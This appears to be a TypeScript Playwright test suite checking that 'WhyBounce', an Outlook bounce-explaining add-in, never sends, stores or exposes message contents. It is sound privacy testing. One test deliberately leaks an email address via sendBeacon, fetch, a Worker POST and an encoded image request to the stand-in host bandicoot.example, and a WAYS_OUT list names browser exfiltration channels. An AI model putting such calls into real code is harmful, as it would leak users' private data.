import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { links as catalogueLinks } from "../../src/causes/links";
import actionWords from "../../src/locales/en/actions.json";
import ui from "../../src/locales/en/ui.json";
import { Dispatch } from "../../src/simulator/wire/names";
import { defaults } from "../../src/taskpane/settings";
import { paneFrame } from "./matrix/paneFrame";
import { visitTabs } from "./outlook";
import { closePane, openMessage, openPane } from "./person";
import { chosen, everything, lookUp, messages, otherLanguage } from "./privacy/course";
import { answerOpen, handInMany, readSelected } from "./privacy/many";
import { callingHome, callingMarks, foundIn, marksOf } from "./privacy/marks";
import { Room, type Watched } from "./privacy/room";
import { storedIn, wrongWith, type Stored } from "./privacy/traces";
import type { Sent } from "./privacy/wire";

jest.setTimeout(240_000);

/** Passed on by somebody, so that they can be answered. */
const passedOn = "forwarded-inline";
const handedIn = [passedOn, "exo-mailbox-full", "gmail-not-found", "exo-delayed", "exim-mx-loopback"];
const sourceOf = (name: string): string => readFileSync(join(__dirname, `../../src/simulator/mailbox/${name}.eml`), "utf8");
const marks = [...new Set([...[...messages, ...handedIn].flatMap((name) => marksOf(sourceOf(name))), ...callingMarks])];

const catalogue = new Set(Object.values(catalogueLinks).map((address) => new URL(address).href));

let room: Room;
beforeAll(async () => { room = await Room.enter(); });
afterAll(() => room.leave());

const places = () => ({ pane: room.servers.paneUrl, host: room.servers.url });
const isPane = ({ url }: Sent): boolean => url.startsWith(room.servers.paneUrl);
const telling = (sent: readonly Sent[]): readonly string[] => sent.flatMap(({ method, url, headers, body }) => foundIn(`${url}\n${headers}\n${body}`, marks).map((mark) => `${method} ${url}: ${mark}`));

const OF_THE_OPEN_ONE: readonly number[] = [Dispatch.initialData, Dispatch.getAsFile, Dispatch.getBody, Dispatch.getAllInternetHeaders, Dispatch.getAttachmentContent];
/** The call of each word to Outlook that is one, by its number. */
const callsIn = (heard: readonly string[]): readonly number[] => heard.flatMap((words) => [...words.matchAll(/"DispatchId":(\d+)/g)].map(([, number]) => Number(number)));
/** Those calls that have words of a message in them; NaN where it was no call. */
const tellingCalls = (heard: readonly string[]): readonly number[] => [...new Set(heard.filter((words) => foundIn(words, marks).length > 0).map((words) => callsIn([words])[0] ?? NaN))].toSorted((one, other) => one - other);

/** Leaves the page, as what says goodbye does so then, and gives all that was sent. */
async function allSent({ page, wire }: Watched): Promise<readonly Sent[]> {
  await page.goto("about:blank");
  await page.waitForTimeout(1_000);
  return [...wire.sent];
}

describe("somebody uses everything in the simulated Outlook", () => {
  let watched: Watched;
  let links: readonly string[];
  let sent: readonly Sent[];
  let stored: Stored;
  let heard: readonly string[];
  let settings: Readonly<Record<string, unknown>>;

  beforeAll(async () => {
    watched = await room.open("profile=plain&open=ordinary-question");
    links = await everything(watched, callingHome);
    await handInMany(watched, [sourceOf(passedOn), callingHome, sourceOf("exo-mailbox-full")]);
    await answerOpen(watched, passedOn);
    stored = await storedIn(await paneFrame(watched.page), watched.context);
    heard = await watched.page.evaluate(() => window.heard!);
    settings = await watched.page.evaluate(() => window.simulator!.roamingSettings);
    sent = await allSent(watched);
  });
  afterAll(() => watched.close());

  test("every request is a GET without a body, for a file of the pane or of office.js", () => {
    expect(sent.flatMap((one) => wrongWith(one, places()))).toEqual([]);
    expect(watched.problems).toEqual([]);
    // What the wire takes down is what there is: the pane, its reader, late parts, a card's texts by the cause's name, another language, office.js.
    const parts = [/\/taskpane\.html\?/, /\/config\.json$/, /\/js\/reader\./, /\/js\/details\./, /\/js\/actions\./, /\/js\/settings\./, /\/js\/look-up\./, /\/js\/outlook-file\./, /\/js\/en-mailbox-full\./, /\/js\/triage\./, /\/js\/triager\./, /\/js\/zip\./, /\/js\/triage-out\./, /\/js\/en-reply\./, /\/js\/sv\./, /\/office-js\/outlook-web/];
    expect(parts.filter((part) => !sent.filter(isPane).some(({ url }) => part.test(url)))).toEqual([]);
  });

  test("no word of a message is in any address, header or body", () => {
    expect(marks.length).toBeGreaterThan(100);
    // The page of the simulated Outlook fetches its mailbox.
    expect(telling(sent.filter(({ url }) => !url.startsWith(room.servers.url)))).toEqual([]);
  });

  test("every link of a card is one of the catalogue's, with nothing added to it", () => {
    expect(links.length).toBeGreaterThan(10);
    expect(links.filter((href) => !catalogue.has(href))).toEqual([]);
  });

  test("what a message's own HTML asks for is not fetched", () => {
    expect(sent.filter(({ url }) => url.includes("bandicoot"))).toEqual([]);
  });

  test("nothing of a message is stored in the browser, and no cookie is set", () => {
    expect([stored.other, stored.cookies]).toEqual([[], []]);
    expect(foundIn(JSON.stringify([stored.local, stored.session]), marks)).toEqual([]);
    // What there is is office.js's own: a number for this browser, and when the pane was closed.
    expect(Object.keys(stored.local).filter((key) => !/^(?:Office API client|Office App Log Id Set|[\da-f-]{36})$/.test(key))).toEqual([]);
    expect(Object.keys(stored.session).filter((key) => !/^(?:hostInfoValue|_xdm_[\da-f_-]+)$/.test(key))).toEqual([]);
  });

  test("Outlook is given the settings to keep, and they are what was chosen", () => {
    expect(Object.keys(settings)).toEqual(["whybounce"]);
    expect(settings["whybounce"]).toMatchObject({ helpdesk: chosen.helpdesk, ownDomains: [chosen.domain], omitsPersonal: true, role: "helpdesk" });
    expect(foundIn(JSON.stringify(settings), marks)).toEqual([]);
  });

  test("Outlook is told words of a message only when the reader opens a new message or an answer, and asked for nothing but the open one", () => {
    expect(tellingCalls(heard)).toEqual([Dispatch.displayNewMessageFormAsync, Dispatch.displayReplyFormAsync]);
    const asked: readonly number[] = [...OF_THE_OPEN_ONE, Dispatch.displayNewMessageFormAsync, Dispatch.displayReplyFormAsync, Dispatch.saveRoamingSettings];
    expect(callsIn(heard).filter((call) => !asked.includes(call))).toEqual([]);
  });
});

describe("somebody reads what is selected in the simulated Outlook, with the helpdesk's add-in", () => {
  const selected = [passedOn, "exo-mailbox-full", "gmail-not-found"];
  let watched: Watched;
  let sent: readonly Sent[];
  let stored: Stored;
  let heard: readonly string[];

  beforeAll(async () => {
    watched = await room.open("profile=web&addin=helpdesk&open=ordinary-question");
    await readSelected(watched, selected);
    stored = await storedIn(await paneFrame(watched.page), watched.context);
    heard = await watched.page.evaluate(() => window.heard!);
    sent = await allSent(watched);
  });
  afterAll(() => watched.close());

  test("it is asked which they are, and for each to be loaded, read and let go; and for nothing else", () => {
    const asked: readonly number[] = [...OF_THE_OPEN_ONE, Dispatch.getSelectedItems, Dispatch.loadItemById, Dispatch.unloadItem];
    const calls = callsIn(heard);
    expect(calls.filter((call) => !asked.includes(call))).toEqual([]);
    const times = (call: number): number => calls.filter((one) => one === call).length;
    expect([times(Dispatch.loadItemById), times(Dispatch.unloadItem)]).toEqual([selected.length, selected.length]);
  });

  test("it is told no word of a message, and nothing of one is sent or stored", () => {
    expect(tellingCalls(heard)).toEqual([]);
    expect(sent.flatMap((one) => wrongWith(one, places()))).toEqual([]);
    expect(telling(sent.filter(({ url }) => !url.startsWith(room.servers.url)))).toEqual([]);
    expect([stored.other, stored.cookies, foundIn(JSON.stringify([stored.local, stored.session]), marks)]).toEqual([[], [], []]);
    expect(watched.problems).toEqual([]);
  });
});

test("with everybody's add-in Outlook is not even asked which messages are selected", async () => {
  const watched = await room.open("profile=web&open=ordinary-question");
  await watched.pane.locator("main[data-state=not-a-bounce]").waitFor();
  await watched.page.evaluate((names) => window.simulator!.select(names), [passedOn, "exo-mailbox-full"]);
  await watched.pane.locator("main[data-state=no-item]").waitFor();
  // The one that asks is fetched then.
  await watched.page.waitForLoadState("networkidle");
  await watched.page.waitForTimeout(1_000);
  expect(watched.wire.sent.filter(({ url }) => url.includes("/js/selection."))).toHaveLength(1);
  expect(callsIn(await watched.page.evaluate(() => window.heard!)).filter((call) => !OF_THE_OPEN_ONE.includes(call))).toEqual([]);
  await watched.close();
});

test("the page that stands alone asks for its files, and keeps what was chosen and nothing else", async () => {
  const watched = await room.openStandAlone();
  const { page } = watched;
  await page.locator("[data-paste]").waitFor();
  for (const [at, source] of [sourceOf("exo-recipient-not-found"), callingHome].entries()) {
    if (at > 0) await page.getByRole("button", { name: "Read another bounce" }).press("Enter");
    await page.locator("input[type=file]").setInputFiles({ name: `${at}.eml`, mimeType: "message/rfc822", buffer: Buffer.from(source) });
    await page.locator(`main[data-turn="${at + 1}"] article`).first().waitFor();
    await visitTabs(page);
  }
  await lookUp(page, "550 5.1.1 <pademelon@wallabybank.com>: User unknown");
  await otherLanguage(page);
  // What a browser's history keeps of it.
  expect([page.url(), await page.title()]).toEqual([`${room.servers.paneUrl}/index.html`, "WhyBounce"]);
  const stored = await storedIn(page.mainFrame(), watched.context);
  expect(stored).toEqual({ local: { whybounce: expect.any(String) }, session: {}, other: [], cookies: [] });
  expect(Object.keys(JSON.parse(stored.local["whybounce"]!) as object).filter((name) => !Object.hasOwn(defaults, name))).toEqual([]);
  expect(foundIn(JSON.stringify(stored.local), marks)).toEqual([]);
  const sent = await allSent(watched);
  expect(sent.flatMap((one) => wrongWith(one, places()))).toEqual([]);
  expect(sent.filter(({ url }) => url.includes("office-js"))).toEqual([]);
  expect(telling(sent)).toEqual([]);
  expect(watched.problems).toEqual([]);
  await watched.close();
});

test("whoever serves office.js is told the site's name by some of its parts, and never which page or message", async () => {
  // The same server by another name is another origin, as Microsoft's is.
  const office = room.servers.paneUrl.replace("localhost", "127.0.0.1");
  const watched = await room.open("open=nothing", ({ origin }) => (origin === office ? { "access-control-allow-origin": "*" } : {}));
  const { page, wire } = watched;
  const html = readFileSync(join(__dirname, "../../dist/taskpane.html"), "utf8").replace(/https:[^"> ]*\/office\.js/, `${office}/office-js/office.js`);
  await page.route("**/taskpane.html*", (route) => route.fulfill({ contentType: "text/html", body: html }));
  await openMessage(watched, "exo-recipient-not-found");
  await closePane(watched);
  await openPane(watched);
  const asked = wire.sent.filter(({ url }) => url.startsWith(office) && url.endsWith(".js"));
  const valueOf = (headers: string, name: string): string | undefined => new RegExp(`^${name}\n(.*)$`, "im").exec(headers)?.[1];
  expect(asked.length).toBeGreaterThan(3);
  expect(asked.map(({ url, headers }) => [url, valueOf(headers, "referer")])).toEqual(asked.map(({ url }) => [url, undefined]));
  expect(new Set(asked.map(({ headers }) => valueOf(headers, "origin")))).toEqual(new Set([undefined, room.servers.paneUrl]));
  expect(telling(asked)).toEqual([]);
  await watched.close();
});

test("no box gives what is in it to a browser's spell check or form filling", async () => {
  const watched = await room.openStandAlone();
  const { page } = watched;
  const boxes = page.locator("textarea, input:not([type=file], [type=radio], [type=checkbox])");
  const told = () => boxes.evaluateAll((all) => all.map((box) => `${box.getAttribute("spellcheck")} ${box.getAttribute("autocomplete")}`));
  await page.locator("[data-paste]").waitFor();
  await page.getByRole("button", { name: ui.footer.settings, exact: true }).press("Enter");
  await page.locator("[data-settings] input[type=email]").waitFor();
  // A report, a code; domains, the helpdesk's address.
  expect(await told()).toEqual(Array(4).fill("false off"));
  await page.locator("input[type=file]").setInputFiles({ name: "calling.eml", mimeType: "message/rfc822", buffer: Buffer.from(callingHome) });
  await page.getByRole("button", { name: ui.action["send-again"] }).press("Enter");
  await page.getByLabel(actionWords.panel.sendAgain.address, { exact: true }).waitFor();
  expect(new Set(await told())).toEqual(new Set(["false off"]));
  await watched.close();
});

test("a link to the organisation's tickets is opened as the admin wrote it", async () => {
  const ticket = "https://tickets.litware.example/new";
  const watched = await room.openStandAlone({ helpdesk: { ticket } });
  const { page } = watched;
  await page.locator("[data-paste]").waitFor();
  await page.locator("input[type=file]").setInputFiles({ name: "calling.eml", mimeType: "message/rfc822", buffer: Buffer.from(callingHome) });
  await page.getByRole("button", { name: ui.action.ticket }).press("Enter");
  const link = page.getByRole("link", { name: actionWords.panel.openTicket });
  await link.waitFor();
  expect([await link.getAttribute("href"), await link.getAttribute("rel")]).toEqual([ticket, "noopener noreferrer"]);
  await watched.close();
});

test("what leaves in any of these ways would be noticed", async () => {
  const watched = await room.openStandAlone();
  await watched.page.locator("[data-paste]").waitFor();
  await watched.page.waitForLoadState("networkidle");
  await watched.page.evaluate(() => {
    const word = "pademelon@wallabybank.com";
    navigator.sendBeacon("/beacon", word);
    void fetch(`/fetched?${encodeURIComponent(word)}`).catch(() => undefined);
    new Image().src = `https://bandicoot.example/${btoa(word)}`;
    new WebSocket("ws://bandicoot.example/").onerror = () => undefined;
    const worker = new Worker(URL.createObjectURL(new Blob([`fetch("${location.origin}/worker", { method: "POST", body: "${btoa(`x${word}`)}" })`])));
    worker.onerror = () => undefined;
    localStorage.setItem("kept", word);
    document.cookie = "kept=1";
  });
  await watched.page.waitForTimeout(1_000);
  const stored = await storedIn(watched.page.mainFrame(), watched.context);
  expect([foundIn(JSON.stringify(stored.local), marks).length > 0, stored.cookies]).toEqual([true, ["kept=1"]]);
  const sent = await allSent(watched);
  const wrong = sent.filter((one) => wrongWith(one, places()).length > 0).map(({ method, url }) => `${method} ${url.replace(room.servers.paneUrl, "")}`);
  expect(wrong.sort()).toEqual(["CONNECT bandicoot.example:443", "CONNECT bandicoot.example:80", "GET /fetched?pademelon%40wallabybank.com", "POST /beacon", "POST /worker"]);
  expect(telling(sent).map((line) => line.split(": ")[0]!.replace(room.servers.paneUrl, ""))).toEqual(expect.arrayContaining(["GET /fetched?pademelon%40wallabybank.com", "POST /beacon", "POST /worker"]));
  expect(watched.problems).toEqual(expect.arrayContaining([expect.stringMatching(/^request: https:\/\/bandicoot\.example\//), "WebSocket: ws://bandicoot.example/"]));
  await watched.close();
});

const WAYS_OUT = ["sendBeacon", "WebSocket", "EventSource", "RTCPeerConnection", "WebTransport", "XMLHttpRequest", "indexedDB", "document.cookie", "serviceWorker"];

test("nothing that is built knows another way out than asking for files", () => {
  const folder = join(__dirname, "../../dist/js");
  const found = readdirSync(folder).flatMap((name) => {
    const code = readFileSync(join(folder, name), "utf8");
    return WAYS_OUT.filter((way) => code.includes(way)).map((way) => `${name}: ${way}`);
  });
  expect(found).toEqual([]);
});
